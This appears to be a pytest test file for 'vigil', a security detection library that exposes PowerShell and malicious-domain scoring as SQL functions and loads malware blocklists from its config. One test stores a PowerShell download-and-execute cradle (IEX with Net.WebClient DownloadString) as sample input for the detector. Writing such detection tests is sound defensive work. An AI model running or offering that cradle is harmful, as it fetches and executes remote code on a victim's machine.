"""`vigil.connect`: two lines from a notebook to SQL with vigil's functions."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import vigil
from vigil.errors import DetectionNotFound


def test_connect_reads_the_profile_and_registers_the_functions(
    tmp_path: Path, publish_model: Callable[..., Any]
) -> None:
    publish_model()  # into tmp_path / "models"
    (tmp_path / "vigil.toml").write_text(
        '[profiles.dev]\nengine = "duckdb"\ndatabase = "wh.duckdb"\nstore = "models"\n'
    )
    con = vigil.connect("dev")
    con.sql(
        "create table events as select * from (values "
        "('IEX (New-Object Net.WebClient).DownloadString(''http://x'')'), "
        "('Get-Date'), (NULL)) t(cmd)"
    )
    rows = con.sql(
        "select cmd, vigil_powershell_score(cmd) s, vigil_powershell_iocs(cmd) i from events"
    ).fetchall()
    assert rows[0][1] > 0.5 > rows[1][1]
    assert "downloadstring" in rows[0][2]
    assert rows[2][1:] == (None, None)
    table = con.sql("select vigil_powershell_score(cmd) s from events").to_arrow_table()
    assert table.num_rows == 3
    con.close()
    assert (tmp_path / "wh.duckdb").exists()


def test_connect_without_config_uses_local_defaults(tmp_path: Path) -> None:
    with vigil.connect() as con:
        assert con.profile.database == ".vigil/vigil.duckdb"
        assert "vigil_powershell_score" in con.functions
    assert (tmp_path / ".vigil" / "vigil.duckdb").exists()


def test_unknown_detection_suggests_the_close_name() -> None:
    with (
        vigil.connect() as con,
        pytest.raises(DetectionNotFound, match="did you mean 'powershell'"),
    ):
        con.detection("powershel")


def test_intel_sources_from_vigil_toml_feed_the_domain_detection(
    tmp_path: Path, trained_domain_model: Any
) -> None:
    import shutil

    shutil.copytree(trained_domain_model.store_path, tmp_path / "models")
    shutil.copy(trained_domain_model.blocklist, tmp_path / "block.hosts")
    (tmp_path / "vigil.toml").write_text(
        '[profiles.dev]\ndatabase = ":memory:"\nstore = "models"\n\n'
        "[intel.sources.generated]\n"
        'type = "file"\nkind = "domain"\ncategory = "malware"\n'
        'path = "block.hosts"\nformat = "hosts"\n'
    )
    listed = trained_domain_model.listed[0]
    with vigil.connect() as con:
        assert con.intel is not None
        assert con.intel.fingerprint == trained_domain_model.intel.fingerprint
        ((risk, indicators),) = con.sql(
            "select vigil_domain_risk($1), vigil_domain_indicators($1)", params=[listed]
        ).fetchall()
        assert risk == 1.0
        assert "listed:generated" in indicators
        assert con.sql("select vigil_domain_risk(NULL)").fetchall() == [(None,)]


def test_a_broken_intel_source_is_a_clear_config_error(tmp_path: Path) -> None:
    from vigil.errors import ConfigError

    (tmp_path / "vigil.toml").write_text(
        '[profiles.dev]\n\n[intel.sources.bad]\ntype = "ftp"\nkind = "domain"\n'
        'category = "malware"\n'
    )
    with pytest.raises(ConfigError, match="ftp"):
        vigil.connect()


def test_an_ensemble_defined_in_vigil_toml_is_a_sql_function_and_a_cli_detection(
    tmp_path: Path, publish_model: Callable[..., Any]
) -> None:
    from typer.testing import CliRunner

    from vigil.cli import app

    publish_model(bias=-3.0, threshold=0.4)  # powershell@1, production
    publish_model(bias=3.0, threshold=0.8, alias="staging")  # powershell@2
    (tmp_path / "vigil.toml").write_text(
        '[profiles.dev]\ndatabase = ":memory:"\nstore = "models"\n\n'
        "[detections.powershell_pair]\n"
        'extractor = "powershell"\nmembers = ["powershell@production", "powershell@staging"]\n'
        'combine = "max"\nscore_sql = "vigil_pair"\n\n'
        "[detections.powershell]\nthreshold = 0.9\n"
    )
    with vigil.connect() as con:
        ((pair, single),) = con.sql(
            "select vigil_pair('Get-Date'), vigil_powershell_score('Get-Date')"
        ).fetchall()
        assert pair > 0.9 > 0.1 > single
        assert con.detection("powershell_pair").threshold == pytest.approx(0.8)
        assert con.detection("powershell").threshold == 0.9
    scored = CliRunner().invoke(app, ["score", "powershell_pair"], input="Get-Date\n")
    assert scored.exit_code == 0, scored.output
    assert float(scored.stdout) == pytest.approx(pair, abs=1e-6)


def test_a_bad_detection_table_names_itself(tmp_path: Path) -> None:
    from vigil.errors import ConfigError

    (tmp_path / "vigil.toml").write_text(
        '[profiles.dev]\n\n[detections.broken]\nmembers = ["x@1"]\ncombine = "median"\n'
    )
    with pytest.raises(ConfigError, match=r"\[detections.broken\]"):
        vigil.connect()
